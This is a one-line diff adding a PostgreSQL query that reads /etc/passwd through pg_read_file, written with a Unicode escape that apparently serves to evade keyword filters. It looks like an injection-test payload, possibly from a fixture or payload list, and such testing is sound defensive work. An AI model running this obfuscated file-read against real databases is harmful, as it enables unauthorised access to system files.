@@ -1,0 +1,1 @@
+SELECT U&"pg\005Fread_file"('/etc/passwd')
